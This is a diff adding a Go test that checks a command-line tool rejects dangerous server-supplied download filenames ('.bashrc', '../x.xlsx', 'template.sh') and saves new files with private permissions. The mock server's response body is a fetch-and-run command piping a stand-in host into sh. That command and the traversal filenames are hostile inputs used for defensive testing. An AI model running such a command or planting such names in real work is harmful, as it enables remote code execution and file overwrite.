@@ -9,7 +9,9 @@ import (
 	"fmt"
 	"io"
 	"net/http"
+	"net/http/httptest"
 	"net/url"
+	"os"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -247,4 +249,41 @@ func TestServerAddressRefusedWithoutItsPassword(t *testing.T) {
 	_, err := run(t, "findings", "template", "--server", "htp://ops:SrvPW@host")
 	require.ErrorContains(t, err, "--server must be an http:// or https:// address")
 	require.NotContains(t, err.Error(), "SrvPW")
+}
+
+// TestDownloadNamedByTheServerReplacesNothing: a name the server gives a
+// download is a workbook's or a list's in this directory, and replaces no
+// file: a server naming ".bashrc" had it replaced, world-readable.
+func TestDownloadNamedByTheServerReplacesNothing(t *testing.T) {
+	name := ""
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Content-Disposition", `attachment; filename="`+name+`"`)
+		_, _ = w.Write([]byte("curl evil | sh\n"))
+	}))
+	defer srv.Close()
+	dir := t.TempDir()
+	t.Chdir(dir)
+	get := func(n string) (string, error) {
+		name = n
+		return run(t, "findings", "template", "--server", srv.URL, "--token", "x")
+	}
+	require.NoError(t, os.WriteFile(".bashrc", []byte("original\n"), 0o600))
+	for _, bad := range []string{".bashrc", "../x.xlsx", "template.sh", ".x.xlsx"} {
+		_, err := get(bad)
+		require.ErrorContains(t, err, "give one with -o", bad)
+	}
+	b, err := os.ReadFile(".bashrc")
+	require.NoError(t, err)
+	require.Equal(t, "original\n", string(b))
+
+	out, err := get("问题清单模板.xlsx")
+	require.NoError(t, err, out)
+	st, err := os.Stat("问题清单模板.xlsx")
+	require.NoError(t, err)
+	require.Equal(t, os.FileMode(0o600), st.Mode().Perm())
+	_, err = get("问题清单模板.xlsx")
+	require.ErrorContains(t, err, "问题清单模板.xlsx exists: give -o to replace it")
+	entries, err := os.ReadDir(".")
+	require.NoError(t, err)
+	require.Len(t, entries, 2, "no temporary file left: %v", entries)
 }
